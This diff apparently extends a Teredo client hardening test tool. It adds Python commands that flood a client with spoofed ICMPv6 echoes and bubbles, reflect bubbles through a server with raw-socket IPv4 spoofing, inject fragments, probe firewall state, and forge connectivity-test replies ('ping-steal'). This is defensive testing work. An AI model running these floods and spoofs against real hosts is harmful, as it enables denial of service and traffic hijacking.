@@ -42,6 +42,41 @@ by a raw socket (IP_HDRINCL).  Each command prints one JSON object.
              [--ports-from P] [--dst TEREDO]
       From the native net: UDP datagrams of B bytes to DSTS distinct
       Teredo addresses (flags 0: restricted clients that do not exist).
+  echo-flood --client IP:PORT --dst TEREDO [--bind PORT] [--rate R]
+             [--duration S] [--src-prefix P]
+      From our own UDP socket (a relay endpoint we control): ICMPv6 echo
+      requests to the client, each from a new native source P::N
+      (CLI-RX-9: each would start a connectivity test, [harden] item 2).
+  bubble-flood --client IP:PORT --dst TEREDO --server IP --me IP --port P
+             [--count N] [--rate R]
+      Direct bubbles from our IP:port, each from another Teredo address
+      embedding it (flag bits varied; CLI-RX-6 trusts each, item 3).
+  reflect-flood --via SERVER --src-ep IP:PORT --dst TEREDO [--count N]
+             [--rate R]
+      spoof-bubble with a new Teredo source each time (flag and server
+      bits varied), all embedding SRC-EP: without a budget per origin the
+      client bubbles SRC-EP once per bubble (item 7).
+  flow       --server IP --dst TEREDO --me IP --port P --tcp P --udp P
+             [--wait S]
+      Bubble-to-open, then a SYN to the TCP port and a datagram to the
+      UDP port, before and after one echo request is answered: the
+      kernel's echo reply must not open the host to us (item 8).
+  frag       --client IP:PORT --dst TEREDO --src IPV6 --bind PORT
+             [--count N] [--interval S]
+      Non-first fragments of a UDP packet from SRC, from our UDP socket
+      (item 9).
+  udp-answer --server IP --me IP --port P [--listen P] [--wait S]
+             [--ready FILE]
+      Our Teredo address's UDP port LISTEN answers every datagram (a flow
+      the client host's application opened to us); bubbles are answered
+      with a bubble.  Reports what came and what was answered.
+  ping-steal --client IP:PORT --me6 IPV6 --spoof-ep IP:PORT [--delay S]
+             [--wait S] [--ready FILE]
+      A native host we own (its kernel ignores echo requests): every
+      connectivity test of the client (echo request with 8 bytes of
+      nonce) is answered twice: at once, in Teredo, from the spoofed IPv4
+      endpoint SPOOF-EP straight to the client's mapping, then after
+      DELAY natively, through the real relay (item 11, CLI-RX-5).
 """
 import argparse
 import hashlib
@@ -466,6 +501,261 @@ def cmd_flood6(a):
          "seconds": round(time.monotonic() - start, 3)})
 
 
+# ---- [harden] client attacks ---------------------------------------------------
+
+class Pacer:
+    """Sleep so that the i-th event is at start + i / rate (0: no pacing)."""
+
+    def __init__(self, rate):
+        self.gap = 1.0 / rate if rate else 0
+        self.start = time.monotonic()
+
+    def wait(self, i):
+        if self.gap:
+            d = self.start + i * self.gap - time.monotonic()
+            if d > 0:
+                time.sleep(d)
+
+    def elapsed(self):
+        return round(time.monotonic() - self.start, 3)
+
+
+def udp6_pkt(src, dst, sport, dport, data):
+    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
+    c = upper_csum(src, dst, 17, seg)
+    return ip6(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])
+
+
+def cmd_echo_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("0.0.0.0", a.bind))
+    s.setblocking(False)
+    client = ep(a.client)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    base = int(ipaddress.IPv6Address(a.src_prefix))
+    pace = Pacer(a.rate)
+    sent = i = 0
+    end = time.monotonic() + a.duration
+    while time.monotonic() < end:
+        src = ipaddress.IPv6Address(base + 0x10000 + i).packed
+        body = struct.pack("!HH", 0x5eed, i & 0xFFFF) + b"flood!!!"
+        try:
+            s.sendto(icmp6(src, dst, 128, 0, body), client)
+            sent += 1
+        except OSError:
+            pass
+        try:		# whatever comes back (nothing should)
+            while s.recvfrom(2048):
+                pass
+        except (BlockingIOError, OSError):
+            pass
+        i += 1
+        pace.wait(i)
+    out({"sent": sent, "sources": i, "seconds": pace.elapsed(),
+         "local": s.getsockname()[1]})
+
+
+def flags_for(i):
+    """Teredo flag bits for the i-th address of a flood: the cone bit
+    and the low bits left alone, 2^12 distinct values."""
+    return ((i % 4096) << 2) & 0x7FFC
+
+
+def cmd_bubble_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    s.bind((a.me, a.port))
+    client = ep(a.client)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    pace = Pacer(a.rate)
+    sent = 0
+    for i in range(a.count):
+        src = teredo_addr(a.server, a.me, a.port, flags_for(i + 1))
+        if i >= 4095:	# then the server bits too
+            src = src[:4] + struct.pack("!I", 0xC6336400 + i // 4095) + \
+                src[8:]
+        try:
+            s.sendto(bubble(src, dst), client)
+            sent += 1
+        except OSError:
+            pass
+        pace.wait(i + 1)
+    out({"sent": sent, "seconds": pace.elapsed()})
+
+
+def cmd_reflect_flood(a):
+    raw = Raw4()
+    sep = ep(a.src_ep)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    pace = Pacer(a.rate)
+    sent = 0
+    for i in range(a.count):
+        src = teredo_addr(a.via, sep[0], sep[1], flags_for(i + 1))
+        if i >= 4095:
+            src = src[:4] + struct.pack("!I", 0xC0000264 + i // 4095) + \
+                src[8:]
+        try:
+            raw.send(sep, (a.via, TEREDO_PORT), bubble(src, dst))
+            sent += 1
+        except OSError:
+            pass
+        pace.wait(i + 1)
+    out({"sent": sent, "seconds": pace.elapsed()})
+
+
+def kinds_of(got, me):
+    """(kind, sport) of the IPv6 packets to me in datagrams got."""
+    k = []
+    for data, _ in got:
+        pkt, _ = strip_teredo(data)
+        if not pkt or len(pkt) < 40 or pkt[24:40] != me:
+            continue
+        nh, off = final_nh(pkt)
+        sp = struct.unpack("!H", pkt[off:off + 2])[0] \
+            if off + 2 <= len(pkt) else 0
+        if nh == 59:
+            k.append(("bubble", 0))
+        elif nh == 58 and off < len(pkt):
+            k.append(("icmp6-%d" % pkt[off], 0))
+        elif nh == 6 and off + 14 <= len(pkt):
+            f = pkt[off + 13]
+            k.append(("synack" if f & 0x12 == 0x12 else
+                      "rst" if f & 0x04 else "tcp", sp))
+        elif nh == 17:
+            k.append(("udp", sp))
+        else:
+            k.append(("nh-%d" % nh, 0))
+    return k
+
+
+def cmd_flow(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.me, a.port))
+    me = teredo_addr(a.server, a.me, a.port)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    res = {"me": a6(me), "opened": False}
+    peer = None
+    for _ in range(4):		# bubble-to-open, as in cmd_syn
+        s.sendto(bubble(me, dst), (a.server, TEREDO_PORT))
+        for data, frm in recv_all(s, time.monotonic() + 0.7):
+            if frm[0] != a.server:
+                peer = frm
+        if peer:
+            break
+    if peer is None:
+        out(res)
+        return
+    res["opened"] = True
+    res["client"] = "%s:%d" % peer
+    s.sendto(bubble(me, dst), peer)		# CLI-RX-6: trusted, unsolicited
+
+    def probe(tag):
+        """A SYN to the TCP port, a datagram to the UDP port."""
+        got = []
+        for i in range(3):
+            s.sendto(tcp_syn(me, dst, 40000 + i, a.tcp,
+                             random.randrange(1 << 32)), peer)
+            s.sendto(udp6_pkt(me, dst, 41000 + i, a.udp, b"hello?"), peer)
+            got += kinds_of(recv_all(s, time.monotonic() + a.wait / 3), me)
+        res[tag] = {"synack": ("synack", a.tcp) in got,
+                    "rst": ("rst", a.tcp) in got,
+                    "udp": ("udp", a.udp) in got}
+
+    probe("before")
+    ident = random.randrange(65536)
+    got = []
+    for i in range(3):
+        s.sendto(icmp6(me, dst, 128, 0, struct.pack("!HH", ident, i) +
+                       b"one ping"), peer)
+        got += kinds_of(recv_all(s, time.monotonic() + 0.5), me)
+        if ("icmp6-129", 0) in got:
+            break
+    res["ping_answered"] = ("icmp6-129", 0) in got
+    probe("after")
+    out(res)
+
+
+def cmd_frag(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("0.0.0.0", a.bind))
+    client = ep(a.client)
+    src = ipaddress.IPv6Address(a.src).packed
+    dst = ipaddress.IPv6Address(a.dst).packed
+    for i in range(a.count):
+        # fragment header: next header UDP, offset 8 (x 8 bytes), M = 0
+        fh = struct.pack("!BBHI", 17, 0, 8 << 3, 0x5eed0000 + i)
+        s.sendto(ip6(src, dst, 44, fh + b"\x77" * 16), client)
+        time.sleep(a.interval)
+    out({"sent": a.count})
+
+
+def cmd_udp_answer(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.me, a.port))
+    me = teredo_addr(a.server, a.me, a.port)
+    res = {"me": a6(me), "datagrams": 0, "answered": 0, "bubbles": 0}
+    if a.ready:
+        open(a.ready, "w").close()
+    end = time.monotonic() + a.wait
+    while time.monotonic() < end:
+        got = recv_all(s, end, lambda d, f: True)	# one at a time
+        if not got:
+            break
+        data, frm = got[0]
+        pkt, _ = strip_teredo(data)
+        if not pkt or len(pkt) < 40 or pkt[24:40] != me:
+            continue
+        nh, off = final_nh(pkt)
+        if nh == 59:
+            res["bubbles"] += 1
+            s.sendto(bubble(me, pkt[8:24]), frm)
+        elif nh == 17 and off + 8 <= len(pkt):
+            sp, dp = struct.unpack("!HH", pkt[off:off + 4])
+            if dp != a.listen:
+                continue
+            res["datagrams"] += 1
+            s.sendto(udp6_pkt(me, pkt[8:24], dp, sp, b"answer"), frm)
+            res["answered"] += 1
+    out(res)
+
+
+def cmd_ping_steal(a):
+    r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    w = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    raw = Raw4()
+    client = ep(a.client)
+    sep = ep(a.spoof_ep)
+    res = {"tests": 0, "spoofed": 0, "genuine": 0}
+    pending = []
+    if a.ready:
+        open(a.ready, "w").close()
+    end = time.monotonic() + a.wait
+    while time.monotonic() < end:
+        now = time.monotonic()
+        until = min([end] + [t for t, _, _ in pending])
+        rd, _, _ = select.select([r], [], [], max(0, until - now))
+        if rd:
+            # a raw ICMPv6 socket: the ICMPv6 message, the source in the
+            # address; the destination is ours
+            msg, frm = r.recvfrom(2048)
+            if len(msg) == 16 and msg[0] == 128:
+                src = ipaddress.IPv6Address(frm[0].split("%")[0]).packed
+                ident, seq = struct.unpack("!HH", msg[4:8])
+                body = msg[4:]
+                res["tests"] += 1
+                # our own address: the test's destination
+                mine = ipaddress.IPv6Address(a.me6).packed
+                raw.send(sep, client, icmp6(mine, src, 129, 0, body))
+                res["spoofed"] += 1
+                pending.append((time.monotonic() + a.delay, frm[0], body))
+        for item in [p for p in pending if p[0] <= time.monotonic()]:
+            pending.remove(item)
+            # the kernel computes the checksum of raw ICMPv6 sockets
+            w.sendto(struct.pack("!BBH", 129, 0, 0) + item[2], (item[1], 0))
+            res["genuine"] += 1
+    out(res)
+
+
 def main():
     ap = argparse.ArgumentParser()
     sub = ap.add_subparsers(dest="cmd", required=True)
@@ -531,11 +821,65 @@ def main():
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--delay", type=float, default=0.5)
     p.add_argument("--duration", type=float, default=4)
+    p = sub.add_parser("echo-flood")
+    p.add_argument("--client", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--bind", type=int, default=3545)
+    p.add_argument("--rate", type=float, default=40)
+    p.add_argument("--duration", type=float, default=10)
+    p.add_argument("--src-prefix", default="2001:db8:66::")
+    p = sub.add_parser("bubble-flood")
+    p.add_argument("--client", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--server", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--count", type=int, default=1024)
+    p.add_argument("--rate", type=float, default=0)
+    p = sub.add_parser("reflect-flood")
+    p.add_argument("--via", required=True)
+    p.add_argument("--src-ep", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--count", type=int, default=2000)
+    p.add_argument("--rate", type=float, default=1000)
+    p = sub.add_parser("flow")
+    p.add_argument("--server", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--tcp", type=int, required=True)
+    p.add_argument("--udp", type=int, required=True)
+    p.add_argument("--wait", type=float, default=1.5)
+    p = sub.add_parser("frag")
+    p.add_argument("--client", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--src", required=True)
+    p.add_argument("--bind", type=int, required=True)
+    p.add_argument("--count", type=int, default=3)
+    p.add_argument("--interval", type=float, default=0.1)
+    p = sub.add_parser("udp-answer")
+    p.add_argument("--server", required=True)
+    p.add_argument("--me", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--listen", type=int, default=7001)
+    p.add_argument("--wait", type=float, default=4)
+    p.add_argument("--ready")
+    p = sub.add_parser("ping-steal")
+    p.add_argument("--client", required=True)
+    p.add_argument("--me6", required=True)
+    p.add_argument("--spoof-ep", required=True)
+    p.add_argument("--delay", type=float, default=0.3)
+    p.add_argument("--wait", type=float, default=6)
+    p.add_argument("--ready")
     a = ap.parse_args()
     {"ra-spoof": cmd_ra_spoof, "echo-spoof": cmd_echo_spoof, "rh0": cmd_rh0,
      "spoof-bubble": cmd_spoof_bubble, "syn": cmd_syn,
      "rs-flood": cmd_rs_flood, "rs-probe": cmd_rs_probe,
-     "flood6": cmd_flood6, "slowpeer": cmd_slowpeer}[a.cmd](a)
+     "flood6": cmd_flood6, "slowpeer": cmd_slowpeer,
+     "echo-flood": cmd_echo_flood, "bubble-flood": cmd_bubble_flood,
+     "reflect-flood": cmd_reflect_flood, "flow": cmd_flow,
+     "frag": cmd_frag, "udp-answer": cmd_udp_answer,
+     "ping-steal": cmd_ping_steal}[a.cmd](a)
 
 
 if __name__ == "__main__":
